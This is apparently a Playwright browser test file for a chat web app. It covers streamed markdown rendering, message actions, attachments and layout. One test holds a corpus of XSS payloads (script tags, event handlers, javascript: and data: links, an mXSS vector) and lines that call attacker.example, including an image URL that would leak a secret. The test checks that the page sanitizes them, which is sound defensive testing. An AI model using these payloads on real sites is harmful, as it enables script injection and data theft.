# ruff: noqa: F811  (test_browser.py's fixtures are imported, then named as parameters)
"""The chat page's message area in a real browser (Debian's Chromium via Playwright, a real
uvicorn server, the scripted offline model): markdown rendered safely as it streams, the
footer, edit / regenerate / retry, older messages on scroll, and a phone-width layout.

The fixtures (browser, page, server, vault, provider) are test_browser.py's.
"""

from __future__ import annotations

import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, Page, expect

from genvault.money import usd_label
from genvault.providers import testmodel as tm
from genvault.store import chats as chat_store
from genvault.store.users import LOCAL_USER_ID
from genvault.vault import Vault
from test_browser import (  # noqa: F401  (fixtures are used by name)
    ON_SESSION_LOOP,
    PNG,
    base_url,
    browser,
    chromium,
    page,
    provider,
    screenshot,
    settle,
    vault,
)

pytestmark = [pytest.mark.slow, ON_SESSION_LOOP, pytest.mark.parametrize("database", ["sqlite"], indirect=True)]

REPLY = """# Results

Here is **bold**, *emphasis*, `inline code` and a [link](https://example.com/docs).

- first item
- second item

```python
def greet(name):
    return f"hello {name}"
```

| name | value |
|------|------:|
| alpha | 1 |
| beta | 2 |
"""


async def stored_messages(base_url: str, chat_id: str) -> list[dict[str, Any]]:
    """The chat as the JSON API returns it (every message: the test chats are short)."""
    async with httpx.AsyncClient(base_url=base_url) as http:
        response = await http.get(f"/api/chats/{chat_id}/messages", params={"limit": 1000})
    response.raise_for_status()
    messages: list[dict[str, Any]] = response.json()["messages"]
    return messages


def texts(messages: list[dict[str, Any]]) -> list[tuple[str, str]]:
    return [(m["role"], "".join(p.get("text", "") for p in m["parts"] if p["type"] == "text")) for m in messages]


@pytest.mark.long
async def test_a_reply_renders_markdown_code_and_a_table_as_it_streams_with_its_footer(
    page: Page, base_url: str, vault: Vault, provider: tm.TestProvider, tmp_path: Path
) -> None:
    first, rest = REPLY.split("```python")
    provider.enqueue(tm.text(first), tm.delay(3.0), tm.text("```python" + rest))
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base_url)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    await page.goto(f"{base_url}/chat/md-chat")
    await page.fill("#input", "Show me **markdown** <b>as typed</b>")
    await page.press("#input", "Enter")
    reply = page.locator(".msg-assistant .part-text.markdown")
    # Mid-stream: the first half is already markdown (a heading, a list) while the reply runs.
    await expect(reply.locator("h1")).to_have_text("Results")
    await expect(reply.locator("ul > li")).to_have_count(2)
    assert await page.locator("#stop").is_visible()
    await expect(reply.locator("table")).to_have_count(1)  # then the rest streams in

    for shown in ("live", "stored"):
        await expect(reply.locator("strong")).to_have_text("bold")
        await expect(reply.locator("em")).to_have_text("emphasis")
        await expect(reply.locator("p > code")).to_have_text("inline code")
        link = reply.locator('a[href="https://example.com/docs"]')
        await expect(link).to_have_attribute("rel", "noopener noreferrer")
        await expect(link).to_have_attribute("target", "_blank")
        code = reply.locator(".md-code pre code.language-python")
        await expect(code).to_contain_text('return f"hello {name}"')
        await expect(code.locator(".hljs-keyword").first).to_have_text("def")  # highlighted
        await expect(reply.locator(".md-code-bar")).to_contain_text("python")
        table = reply.locator(".md-table table")
        await expect(table.locator("thead th")).to_have_text(["name", "value"])
        await expect(table.locator("tbody tr")).to_have_count(2)
        await expect(table.locator("tbody tr").nth(1).locator("td")).to_have_text(["beta", "2"])
        # GFM alignment becomes a class: the page's CSP refuses style attributes.
        await expect(table.locator("tbody td.align-right").first).to_have_text("1")
        # What a person typed is shown as typed, markup and all.
        user = page.locator(".msg-user .part-text")
        await expect(user).to_have_text("Show me **markdown** <b>as typed</b>")
        assert await page.locator(".msg-user strong, .msg-user b").count() == 0

        footer = page.locator(".msg-assistant .msg-footer")
        await expect(footer.locator('[data-field="model"]')).to_have_text("offline/test-model")
        await expect(footer.locator('[data-field="cost"]')).to_have_text("unpriced")  # never $0
        await expect(footer.locator('[data-field="tokens"]')).to_have_text(re.compile(r"^\d+ in · \d+ out$"))
        await expect(footer.locator('[data-field="duration"]')).to_have_text(re.compile(r"^\d+(\.\d)? m?s$"))
        if shown == "live":
            await screenshot(page, "chat-markdown", tmp_path)
            await settle(vault)
            await page.reload()

    # The renderer, sanitizer and highlighter came from this server, like everything else.
    assert any("/static/vendor/markdown-it/" in url for url in requested)
    assert [url for url in requested if not url.startswith(base_url)] == []
    await page.locator(".md-copy").click()
    await expect(page.locator(".md-copy")).to_have_text("Copied")
    copied = await page.evaluate("navigator.clipboard.readText()")
    assert copied == 'def greet(name):\n    return f"hello {name}"\n'

    # The footer's numbers are the record's.
    [_user, stored] = await stored_messages(base_url, "md-chat")
    record_id = stored["metadata"]["genvault"]["generationId"]
    record = await vault.get_generation(record_id)
    footer = page.locator(".msg-assistant .msg-footer")
    await expect(footer.locator('[data-field="record"]')).to_have_attribute("href", f"/generate/{record_id}")
    await expect(footer.locator('[data-field="json"]')).to_have_attribute("href", f"/api/generations/{record_id}")
    assert record.usage.input_tokens is not None
    assert record.usage.output_tokens is not None
    tokens = f"{record.usage.input_tokens:,} in · {record.usage.output_tokens:,} out"
    await expect(footer.locator('[data-field="tokens"]')).to_have_text(tokens)
    assert record.finished_at is not None
    waited_ms = (record.finished_at - record.created_at).total_seconds() * 1000
    assert abs(stored["metadata"]["genvault"]["durationMs"] - waited_ms) < 1000
    assert stored["metadata"]["genvault"]["durationMs"] >= 3000  # the scripted pause is in it
    # The footer's record link is a page that shows this record.
    await footer.locator('[data-field="record"]').click()
    await expect(page).to_have_url(f"{base_url}/generate/{record_id}")
    await expect(page.locator('.badge[data-field="status"]')).to_have_text("complete")


# Each payload tries to run script (setting window.__xss or opening a dialog), to load something,
# or to leave a link that would run script when followed.
XSS = [
    "<script>window.__xss = 'script'</script>",
    "<img src=x onerror=\"window.__xss = 'img'\">",
    "<svg onload=\"window.__xss = 'svg'\"><script>window.__xss = 'svg-script'</script></svg>",
    "<svg><animate onbegin=\"window.__xss = 'animate'\" attributeName=x dur=1s>",
    "<details open ontoggle=\"window.__xss = 'details'\">x</details>",
    "<iframe src=\"javascript:window.__xss = 'iframe'\"></iframe>",
    "<a href=\"javascript:window.__xss = 'raw-a'\">raw anchor</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss = 'mxss'\">",
    "[md link](javascript:window.__xss='md-link')",
    "[upper](JAVASCRIPT:window.__xss='upper')",
    "[entity](&#106;avascript:window.__xss='entity')",
    "[tabbed](java\tscript:window.__xss='tab')",
    "[spaced](  javascript:window.__xss='spaced')",
    "[vb](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ref link][evil]\n\n[evil]: javascript:window.__xss='ref'",
    "<javascript:window.__xss='autolink'>",
    "![pixel](https://attacker.example/leak.png?secret=1)",
    "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![quote](x\" onerror=\"window.__xss='img-attr')",
    '[titled](https://example.com/ok "t\\" onmouseover=\\"window.__xss=\'title\'")',
    '```"><img src=x onerror="window.__xss=\'fence\'">\ncode\n```',
    "<style>body { display: none }</style><link rel=stylesheet href=https://attacker.example/x.css>",
    "<form action=https://attacker.example><button>submit</button></form>",
]
CORPUS = "\n\n".join(XSS)


async def assert_nothing_ran(page: Page) -> None:
    assert await page.evaluate("window.__xss") is None
    found = await page.evaluate(
        """() => {
        const root = document.getElementById('messages');
        const bad = [];
        for (const node of root.querySelectorAll('*')) {
            for (const attr of node.attributes) {
                if (attr.name.startsWith('on') || attr.name === 'style' || attr.name === 'srcdoc') {
                    bad.push(`${node.tagName} ${attr.name}`);
                }
            }
        }
        for (const node of root.querySelectorAll('script, iframe, svg, math, style, link, form, img, object, embed')) {
            bad.push(node.tagName);
        }
        for (const a of root.querySelectorAll('a[href]')) {
            if (!['http:', 'https:', 'mailto:'].includes(new URL(a.href).protocol)) bad.push(a.href);
            if (a.target === '_blank' && a.rel !== 'noopener noreferrer') bad.push(`rel ${a.rel}`);
        }
        return bad;
    }"""
    )
    assert found == []


@pytest.mark.long
async def test_an_xss_corpus_in_model_output_and_user_text_runs_nothing(
    page: Page, base_url: str, vault: Vault, provider: tm.TestProvider, tmp_path: Path
) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    provider.enqueue(tm.text(CORPUS))
    await page.goto(f"{base_url}/chat/xss-corpus")
    await page.fill("#input", CORPUS)
    await page.press("#input", "Enter")
    reply = page.locator(".msg-assistant .part-text.markdown")
    await expect(reply).to_contain_text("raw anchor")
    await settle(vault)
    await expect(page.locator(".msg-assistant .msg-footer")).to_have_count(1)
    for _ in range(2):  # as streamed, then as loaded from the database
        await expect(page.locator(".msg-user .part-text")).to_have_text(CORPUS, use_inner_text=True)
        await assert_nothing_ran(page)
        # The links that survived are plain text or safe; hovering and clicking them runs nothing.
        for link in await reply.locator("a").all():
            await link.hover()
        await page.keyboard.press("End")
        await page.wait_for_load_state("networkidle")
        await assert_nothing_ran(page)
        # The markdown image became a link, never a request to its address.
        await expect(reply.locator('a[href="https://attacker.example/leak.png?secret=1"]')).to_have_count(1)
        await page.reload()
    assert not [url for url in requests if "attacker.example" in url]
    # page's fixture asserts: no dialog opened, no console error (a CSP refusal would be one).
    await screenshot(page, "chat-xss", tmp_path)


@pytest.mark.long
async def test_regenerate_edit_and_retry_from_the_page_change_the_store_as_the_api_would(
    page: Page, base_url: str, vault: Vault, provider: tm.TestProvider
) -> None:
    provider.tokens_per_second = 0
    provider.enqueue(tm.text("Answer one."))
    provider.enqueue(tm.text("Answer two."))
    await page.goto(f"{base_url}/chat/actions-chat")
    for question, answer in (("Question one?", "Answer one."), ("Question two?", "Answer two.")):
        await page.fill("#input", question)
        await page.press("#input", "Enter")
        await expect(page.locator(".msg-assistant").last.locator(".part-text")).to_have_text(answer)
        await expect(page.locator("#send")).to_be_enabled()
    await settle(vault)
    before = await stored_messages(base_url, "actions-chat")
    [u1, a1, u2, a2] = before

    # Regenerate: only the last reply offers it; it is replaced, nothing else changes.
    assert await page.locator('[data-action="regenerate"]').count() == 1
    provider.enqueue(tm.text("Answer two, again."))
    await page.locator(f'.msg-assistant[data-id="{a2["id"]}"] [data-action="regenerate"]').click()
    await expect(page.locator(".msg-assistant").last.locator(".part-text")).to_have_text("Answer two, again.")
    await expect(page.locator("#send")).to_be_enabled()
    await settle(vault)
    after = await stored_messages(base_url, "actions-chat")
    assert [m["id"] for m in after[:3]] == [u1["id"], a1["id"], u2["id"]]
    assert after[3]["id"] != a2["id"]
    assert texts(after)[3] == ("assistant", "Answer two, again.")
    assert await page.locator(".msg").evaluate_all("nodes => nodes.map(n => n.dataset.id)") == [m["id"] for m in after]
    # The model was asked the same conversation again, without the dropped reply.
    assert [m["role"] for m in provider.calls[-1].messages] == ["user", "assistant", "user"]

    # Edit the first question: it keeps its id, the replies after it go, a new reply follows.
    provider.enqueue(tm.text("Answer to the edit."))
    await page.locator(f'.msg-user[data-id="{u1["id"]}"] [data-action="edit"]').click()
    editor = page.locator(f'.msg-user[data-id="{u1["id"]}"] .msg-editor textarea')
    await expect(editor).to_have_value("Question one?")
    await editor.fill("Question one, edited?")
    await editor.press("Enter")
    await expect(page.locator(".msg")).to_have_count(2)
    await expect(page.locator(".msg-assistant .part-text")).to_have_text("Answer to the edit.")
    await expect(page.locator("#send")).to_be_enabled()
    await settle(vault)
    edited = await stored_messages(base_url, "actions-chat")
    assert edited[0]["id"] == u1["id"]
    assert texts(edited) == [("user", "Question one, edited?"), ("assistant", "Answer to the edit.")]
    assert [m["content"] for m in provider.calls[-1].messages if m["role"] == "user"] in (
        [[{"type": "text", "text": "Question one, edited?"}]],
        ["Question one, edited?"],
    )

    # A reply that fails is marked, and Retry replaces it with a new one.
    provider.enqueue(tm.text("Half an answer"), tm.error("the model fell over", status=500))
    await page.fill("#input", "Question three?")
    await page.press("#input", "Enter")
    failed = page.locator(".msg-assistant").last
    await expect(failed.locator('.msg-ending[data-status="error"]')).to_contain_text("the model fell over")
    await expect(failed).to_have_class(re.compile(r"\bmsg-ended-error\b"))
    await settle(vault)
    failed_id = await failed.get_attribute("data-id")
    stored_failed = (await stored_messages(base_url, "actions-chat"))[-1]
    assert stored_failed["id"] == failed_id
    assert stored_failed["metadata"]["genvault"]["status"] == "error"
    provider.enqueue(tm.text("A whole answer."))
    await failed.locator('[data-action="retry"]').click()
    await expect(page.locator(".msg-assistant").last.locator(".part-text")).to_have_text("A whole answer.")
    await expect(page.locator("#send")).to_be_enabled()
    await settle(vault)
    retried = await stored_messages(base_url, "actions-chat")
    assert texts(retried)[2:] == [("user", "Question three?"), ("assistant", "A whole answer.")]
    assert failed_id not in [m["id"] for m in retried]
    statuses = [r.status for r in (await vault.list_generations(kind="chat", limit=100)).items]
    assert sorted(statuses) == sorted(["complete"] * 5 + ["error"])

    # A request that never reached the server: the user message offers Retry, which sends it again.
    async def drop(route: Any) -> None:
        await route.abort()

    await page.route("**/api/chat", drop)
    await page.fill("#input", "Question four?")
    await page.press("#input", "Enter")
    await expect(page.locator("#error")).to_contain_text("Could not reach the server")
    # The aborted request is logged as a failed load; that one is on purpose.
    problems: list[str] = page.problems.errors  # type: ignore[attr-defined]
    problems[:] = [e for e in problems if "net::ERR_FAILED" not in e]
    await page.unroute("**/api/chat", drop)
    provider.enqueue(tm.text("Answer four."))
    await page.locator('.msg-user:last-child [data-action="retry"]').click()
    await expect(page.locator(".msg-assistant").last.locator(".part-text")).to_have_text("Answer four.")
    await expect(page.locator("#error")).to_be_hidden()
    await settle(vault)
    final = await stored_messages(base_url, "actions-chat")
    assert texts(final)[4:] == [("user", "Question four?"), ("assistant", "Answer four.")]
    assert await page.locator(".msg").evaluate_all("nodes => nodes.map(n => n.dataset.id)") == [m["id"] for m in final]


@pytest.mark.long
async def test_files_preview_and_an_edit_keeps_the_attachment_of_the_message_it_edits(
    page: Page, base_url: str, vault: Vault, provider: tm.TestProvider, tmp_path: Path
) -> None:
    provider.tokens_per_second = 0
    picture = tmp_path / "dot.png"
    picture.write_bytes(PNG)
    provider.enqueue(tm.text("Here is the report."), tm.file("application/pdf", b"%PDF-1.4 a tiny report"))
    await page.goto(f"{base_url}/chat/files-chat")
    await page.set_input_files("#attach", str(picture))
    await page.fill("#input", "What is this?")
    await page.press("#input", "Enter")
    # A file that is not an image is a download link to its stored URL; an image shows inline.
    download = page.locator(".msg-assistant .part-file a[download]")
    await expect(download).to_have_text("File: application/pdf")
    assert "/files/file_" in (await download.get_attribute("href") or "")
    await expect(page.locator("#send")).to_be_enabled()
    await settle(vault)
    await page.reload()
    [user, _reply] = await stored_messages(base_url, "files-chat")
    [attached] = [p for p in user["parts"] if p["type"] == "file"]

    provider.enqueue(tm.text("Still a dot."))
    await page.locator('.msg-user [data-action="edit"]').click()
    await page.locator(".msg-editor textarea").fill("What is this dot?")
    await page.locator(".msg-editor button[type=submit]").click()
    await expect(page.locator(".msg-assistant .part-text")).to_have_text("Still a dot.")
    await settle(vault)
    [edited, reply] = await stored_messages(base_url, "files-chat")
    assert edited["id"] == user["id"]
    assert [p for p in edited["parts"] if p["type"] == "file"] == [attached]  # the same stored file
    assert texts([edited, reply]) == [("user", "What is this dot?"), ("assistant", "Still a dot.")]
    await page.reload()
    image = page.locator(".msg-user .part-file img")
    await expect(image).to_have_count(1)
    assert await image.evaluate("img => img.complete && img.naturalWidth") == 1
    # The model saw the picture with the edited question.
    assert provider.calls[-1].messages[0]["content"][1]["data"] == PNG


async def test_an_interrupted_reply_is_marked_and_retry_replaces_it(
    page: Page, base_url: str, vault: Vault, provider: tm.TestProvider
) -> None:
    # As the sweeper leaves a reply whose process died: partial text, status in its metadata.
    await vault.create_chat("swept-chat", title="Swept")
    history = [
        {"id": "u1", "role": "user", "parts": [{"type": "text", "text": "Tell me a story"}]},
        {
            "id": "a1",
            "role": "assistant",
            "metadata": {"genvault": {"status": "interrupted", "error": "the server stopped", "costUsd": None}},
            "parts": [{"type": "text", "text": "Once upon"}],
        },
    ]
    async with vault.store.write() as conn:
        await chat_store.append_messages(conn, "swept-chat", LOCAL_USER_ID, history)
    await page.goto(f"{base_url}/chat/swept-chat")
    reply = page.locator('.msg-assistant[data-id="a1"]')
    await expect(reply.locator('.msg-ending[data-status="interrupted"]')).to_have_text(
        "Reply interrupted: the server stopped"
    )
    await expect(reply).to_have_class(re.compile(r"\bmsg-ended-interrupted\b"))
    await expect(reply.locator('[data-action="regenerate"]')).to_have_count(0)
    provider.tokens_per_second = 0
    provider.enqueue(tm.text("Once upon a time, the end."))
    await reply.locator('[data-action="retry"]').click()
    await expect(page.locator(".msg-assistant .part-text")).to_have_text("Once upon a time, the end.")
    await expect(page.locator(".msg-ending")).to_have_count(0)
    await settle(vault)
    stored = await stored_messages(base_url, "swept-chat")
    assert texts(stored) == [("user", "Tell me a story"), ("assistant", "Once upon a time, the end.")]
    assert stored[1]["id"] != "a1"


async def test_the_footer_shows_an_exact_cost_in_the_server_s_form_even_one_stored_with_an_exponent(
    page: Page, base_url: str, vault: Vault
) -> None:
    # Replies stored before `genvault.money` hold `str(Decimal)`: "7.50E-7" for 750 nano-USD.
    await vault.create_chat("cost-chat", title="Costs")
    history = [{"id": "u1", "role": "user", "parts": [{"type": "text", "text": "Hi"}]}]
    for message_id, cost in (("a1", "7.50E-7"), ("a2", "0.00000075"), ("a3", "1.5")):
        metadata = {"genvault": {"model": "offline/test-model", "costUsd": cost}}
        history.append(
            {"id": message_id, "role": "assistant", "metadata": metadata, "parts": [{"type": "text", "text": "ok"}]}
        )
    async with vault.store.write() as conn:
        await chat_store.append_messages(conn, "cost-chat", LOCAL_USER_ID, history)
    await page.goto(f"{base_url}/chat/cost-chat")
    for message_id, shown in (("a1", "$0.00000075"), ("a2", "$0.00000075"), ("a3", "$1.50")):
        cost = page.locator(f'.msg-assistant[data-id="{message_id}"] .msg-footer [data-field="cost"]')
        await expect(cost).to_have_text(shown)
    # The script's label is the server's (`money.usd_label`) for whatever decimal text it is given.
    cases = ["0", "0.00000075", "7.50E-7", "75e-8", "1.5", "20", "1E+1", "0E-9", "2.500", "123.456789012", ".5"]
    labels = await page.evaluate(
        "async (cases) => { const m = await import('/static/js/message_footer.js');"
        " return cases.map((c) => m.usdLabel(c)); }",
        cases,
    )
    assert labels == [usd_label(Decimal(case)) for case in cases]


@pytest.mark.long
async def test_older_messages_load_as_the_reader_scrolls_up(page: Page, base_url: str, vault: Vault) -> None:
    await vault.create_chat("scroll-chat", title="A long chat")
    history = [
        {
            "id": f"m{i:03}",
            "role": "user" if i % 2 == 0 else "assistant",
            "parts": [{"type": "text", "text": f"message {i}"}],
        }
        for i in range(130)
    ]
    async with vault.store.write() as conn:
        await chat_store.append_messages(conn, "scroll-chat", LOCAL_USER_ID, history)
    await page.goto(f"{base_url}/chat/scroll-chat")
    messages = page.locator(".msg")
    await expect(messages).to_have_count(50)
    await expect(page.locator('.msg[data-id="m129"]')).to_be_in_viewport()
    for shown, first in ((100, "m080"), (130, "m030")):
        await page.evaluate("window.scrollTo(0, 0)")  # no click: reaching the top is enough
        await expect(messages).to_have_count(shown)
        # The reader's place is kept: the message that was first is still in view.
        await expect(page.locator(f'.msg[data-id="{first}"]')).to_be_in_viewport()
    await expect(page.locator("#earlier")).to_be_hidden()
    ids = await messages.evaluate_all("nodes => nodes.map(n => n.dataset.id)")
    assert ids == [m["id"] for m in history]  # in order, none twice


WIDE_REPLY = (
    "A wide code block and a wide table:\n\n```\n"
    + "x = ["
    + ", ".join(str(i) for i in range(120))
    + "]\n"
    + "```\n\n"
    + "| "
    + " | ".join(f"column {i}" for i in range(14))
    + " |\n"
    + "|"
    + "---|" * 14
    + "\n"
    + "| "
    + " | ".join(f"value {i}" for i in range(14))
    + " |\n"
)


async def test_at_phone_width_wide_code_and_tables_scroll_inside_their_own_box(
    browser: Browser, base_url: str, vault: Vault, provider: tm.TestProvider, tmp_path: Path
) -> None:
    provider.tokens_per_second = 0
    provider.enqueue(tm.text(WIDE_REPLY))
    turn = await vault.chat(
        "wide-chat", message={"id": "u1", "role": "user", "parts": [{"type": "text", "text": "Something wide"}]}
    )
    await vault.wait(turn.generation.id)
    # Dark, to keep a screenshot of the dark theme too (highlight.js has its own dark stylesheet).
    context = await browser.new_context(viewport={"width": 390, "height": 844}, color_scheme="dark")
    try:
        page = await context.new_page()
        page.set_default_timeout(60_000)
        await page.goto(f"{base_url}/chat/wide-chat")
        await expect(page.locator(".md-table table")).to_have_count(1)
        widths = await page.evaluate(
            "({scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth})"
        )
        assert widths["scroll"] <= widths["client"], widths
        for box in (".md-code pre", ".md-table"):
            inner = await page.locator(box).evaluate(
                "n => ({scroll: n.scrollWidth, client: n.clientWidth, right: n.getBoundingClientRect().right,"
                " overflow: getComputedStyle(n).overflowX})"
            )
            assert inner["scroll"] > inner["client"], (box, inner)  # wider than its box ...
            assert inner["overflow"] == "auto", (box, inner)  # ... so it scrolls there
            assert inner["right"] <= 390, (box, inner)
        for control in ("#send", "#input"):
            bounds = await page.locator(control).bounding_box()
            assert bounds is not None
            assert bounds["x"] >= 0, control
            assert bounds["x"] + bounds["width"] <= 390, control
            assert bounds["y"] + bounds["height"] <= 844, control
        await screenshot(page, "phone-chat-wide", tmp_path)
    finally:
        await context.close()
